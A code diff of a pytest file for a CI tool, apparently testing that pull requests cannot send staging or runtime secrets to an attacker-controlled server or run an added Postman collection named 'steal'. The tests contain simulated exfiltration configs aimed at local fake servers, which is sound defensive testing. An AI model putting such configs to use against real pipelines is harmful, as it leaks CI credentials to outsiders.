@@ -2,31 +2,18 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
-
-from satori_ci.demo import Canned, DemoBookshop, StagingServer
-from tests.action.conftest import PR, SPEC, PullRequest, make_pull_request
+from satori_ci.demo import StagingServer
+from tests.action.conftest import PR, PullRequest, make_pull_request, staging_config
 from tests.servers.github_server import FakeGitHub
 
 SECRET = "staging-secret-4d1f"
 RUNTIME = "actions-runtime-9a7c"
 
 
-def _config(url: str, header_var: str, extra: str = "") -> str:
-    return (f"specs:\n  - path: {SPEC}\n    staging:\n      url: {url}\n      headers:\n"
-            f"        Authorization: {header_var}\n{extra}")
 
 
-@pytest.fixture
-def servers() -> Iterator[tuple[StagingServer, StagingServer]]:
-    with StagingServer() as staging, StagingServer() as attacker:
-        DemoBookshop(staging)
-        attacker.route("GET", "/books", lambda r, p: Canned({"books": []}))
-        attacker.route("GET", "/books/{isbn}", lambda r, p: Canned({}))
-        yield staging, attacker
 
 
 def _pull_request(tmp_path: Path, base_config: str, head_config: str, github: FakeGitHub,
@@ -38,10 +25,10 @@ def _pull_request(tmp_path: Path, base_config: str, head_config: str, github: Fa
 def test_a_pull_request_cannot_send_the_staging_secrets_to_its_own_server(
         tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
     staging, attacker = servers
-    evil = _config(attacker.base_url, "ACTIONS_RUNTIME_TOKEN",
+    evil = staging_config(attacker.base_url, "ACTIONS_RUNTIME_TOKEN",
                    "    requests:\n      unsafe: [\"POST /orders\"]\n      values: {isbn: '1'}\n")
     with FakeGitHub(login=None) as github:
-        pr = _pull_request(tmp_path, _config(staging.base_url, "STAGING_TOKEN"), evil, github)
+        pr = _pull_request(tmp_path, staging_config(staging.base_url, "STAGING_TOKEN"), evil, github)
         run = pr.run(inputs={"runner": "native"},
                      extra_env={"STAGING_TOKEN": SECRET, "ACTIONS_RUNTIME_TOKEN": RUNTIME})
         comments = github.comments_on(PR)
@@ -67,9 +54,9 @@ def test_a_team_collection_added_by_the_pull_request_is_not_run(
     collection = ('{"info": {"name": "x", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/'
                   'collection.json"}, "item": [{"name": "steal", "request": {"method": "GET", "url": "'
                   + attacker.base_url + '/books"}}]}')
-    head = _config(staging.base_url, "STAGING_TOKEN", "    requests:\n      collection: postman/c.json\n")
+    head = staging_config(staging.base_url, "STAGING_TOKEN", "    requests:\n      collection: postman/c.json\n")
     with FakeGitHub(login=None) as github:
-        pr = _pull_request(tmp_path, _config(staging.base_url, "STAGING_TOKEN"), head, github,
+        pr = _pull_request(tmp_path, staging_config(staging.base_url, "STAGING_TOKEN"), head, github,
                            {"postman/c.json": collection})
         run = pr.run(inputs={"runner": "native"}, extra_env={"STAGING_TOKEN": SECRET})
         (comment,) = github.comments_on(PR)
@@ -82,8 +69,8 @@ def test_on_push_the_checked_out_config_is_the_trusted_one(
         tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
     staging, _ = servers
     with FakeGitHub(login=None) as github:
-        pr = _pull_request(tmp_path, _config("http://127.0.0.1:9", "STAGING_TOKEN"),
-                           _config(staging.base_url, "STAGING_TOKEN"), github)
+        pr = _pull_request(tmp_path, staging_config("http://127.0.0.1:9", "STAGING_TOKEN"),
+                           staging_config(staging.base_url, "STAGING_TOKEN"), github)
         run = pr.run(inputs={"runner": "native"}, event="push", extra_env={"STAGING_TOKEN": SECRET})
     assert staging.received, run.stdout  # merged to main: its config is the project's
     assert "changes where requests and secrets go" not in run.stdout
@@ -92,8 +79,8 @@ def test_on_push_the_checked_out_config_is_the_trusted_one(
 def test_the_base_configs_oracles_dir_decides_where_the_oracle_files_go(
         tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
     staging, _ = servers
-    base = _config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: reviewed\n"
-    head = _config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: elsewhere\n"
+    base = staging_config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: reviewed\n"
+    head = staging_config(staging.base_url, "STAGING_TOKEN") + "oracles_dir: elsewhere\n"
     with FakeGitHub(login=None) as github:
         pr = _pull_request(tmp_path, base, head, github)
         run = pr.run(inputs={"runner": "native"}, extra_env={"STAGING_TOKEN": SECRET})
